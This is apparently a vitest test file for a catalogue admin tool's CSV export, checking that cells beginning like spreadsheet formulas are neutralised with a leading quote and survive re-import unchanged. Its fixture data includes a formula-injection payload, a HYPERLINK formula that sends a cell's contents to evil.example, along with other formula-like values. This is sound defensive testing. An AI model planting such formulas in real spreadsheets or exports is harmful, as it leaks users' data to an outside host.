import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NUMERIC_COLUMNS } from '../../../src/admin/import/columns.js';
import { exportCatalogue } from '../../../src/admin/import/export.js';
import { keysFor, NEW_CENTRE, newSession } from '../../helpers/admin-keys.js';
import { buildTestApp, type TestApp } from '../../helpers/app.js';
import { CENTRES, FIXTURE_CATALOGUE } from '../../helpers/fixtures.js';

let t: TestApp;
let admin: Record<string, string>;
beforeAll(async () => {
  t = await buildTestApp({ catalogue: FIXTURE_CATALOGUE });
  admin = (await keysFor(t.app, CENTRES.lyon.id)).admin;
});
afterAll(() => t.close());

const HOSTILE_ID = '43000000-0000-4000-8000-000000000001';
const QUOTED_ID = '43000000-0000-4000-8000-000000000002';
/** A centre whose text a spreadsheet would run, west of Greenwich (a negative longitude). */
const HOSTILE = {
  ...NEW_CENTRE,
  slug: 'formule-nantes',
  name: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  address: '-1+1 rue',
  city: '@SUM(1+1)',
  postalCode: '44000',
  deptCode: '44',
  lat: 47.2184,
  lng: -1.5536,
  agrementNumber: 'R2404400123',
  phone: '+33 2 40 00 00 00',
  // Several lines (a quoted CSV cell), the first starting like a formula.
  cancellationTerms: '-50 € retenus après le premier jour.\nRemboursement sous 15 jours, "par virement".',
};
/** A centre whose name really starts with a quote before a formula character. */
const QUOTED = {
  ...HOSTILE,
  slug: 'guillemet-nantes',
  agrementNumber: 'R2404400124',
  name: "'=déjà cité",
  address: "'-2 rue",
};

const importBody = (payload: string, type: string) =>
  t.app.inject({ method: 'POST', url: '/api/admin/import', headers: { ...admin, 'content-type': type }, payload });
const centre = async (id: string) => (await t.app.inject({ url: `/api/admin/centres/${id}`, headers: admin })).json();

describe('CSV export against formula injection', () => {
  beforeAll(async () => {
    const res = await importBody(
      JSON.stringify({
        centres: [
          { id: HOSTILE_ID, ...HOSTILE },
          { id: QUOTED_ID, ...QUOTED },
        ],
        sessions: [
          {
            id: '53000000-0000-4000-8000-000000000001',
            ...newSession(HOSTILE_ID, { courseNumber: 'NTE-1', priceEuros: 199.5 }),
          },
        ],
      }),
      'application/json',
    );
    expect(res.statusCode, res.body).toBe(200);
  });

  it('neutralises text cells that start like a formula, and leaves numbers numbers', async () => {
    const csv = await exportCatalogue(t.app.database.db, 'csv');
    const rows = parseCsv(csv, { columns: true }) as Record<string, string>[];
    const hostile = rows.find((r) => r.id === HOSTILE_ID);
    expect(hostile).toMatchObject({
      name: '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
      address: "'-1+1 rue",
      city: "'@SUM(1+1)",
      phone: "'+33 2 40 00 00 00",
      lat: '47.2184',
      lng: '-1.5536',
    });
    expect(rows.find((r) => r.id === QUOTED_ID)).toMatchObject({ name: "''=déjà cité", address: "''-2 rue" });
    expect(rows.find((r) => r.courseNumber === 'NTE-1')).toMatchObject({ priceEuros: '199.5' });
    for (const row of rows)
      for (const [column, cell] of Object.entries(row)) {
        if (NUMERIC_COLUMNS.has(column) && cell !== '') expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        else expect(cell, `${column} of ${row.id}`).not.toMatch(/^[=+\-@\t\r]/);
      }
  });

  it('imports its own export back unchanged', async () => {
    const csv = await exportCatalogue(t.app.database.db, 'csv');
    const res = await importBody(csv, 'text/csv');
    expect(res.statusCode, res.body.slice(0, 500)).toBe(200);
    const body = res.json();
    expect(body.centres.created + body.centres.updated).toBe(0);
    expect(body.sessions.created + body.sessions.updated).toBe(0);
    expect(await centre(HOSTILE_ID)).toMatchObject(HOSTILE);
    expect(await centre(QUOTED_ID)).toMatchObject(QUOTED);
    expect(await exportCatalogue(t.app.database.db, 'csv')).toBe(csv);
  });

  it('takes the quote off a partner-written cell too, and reads unquoted text as written', async () => {
    const columns = Object.keys(HOSTILE);
    const cells = (values: Record<string, unknown>) =>
      columns.map((c) => `"${String(values[c]).replaceAll('"', '""')}"`).join(',');
    const csv = [
      ['type', 'id', ...columns].join(','),
      `centre,${HOSTILE_ID},${cells({ ...HOSTILE, city: "'=Nantes" })}`,
      `centre,${QUOTED_ID},${cells({ ...QUOTED, address: '-3 rue' })}`,
    ].join('\n');
    const res = await importBody(csv, 'text/csv');
    expect(res.statusCode, res.body).toBe(200);
    expect((await centre(HOSTILE_ID)).city).toBe('=Nantes');
    expect((await centre(QUOTED_ID)).address).toBe('-3 rue');
  });
});
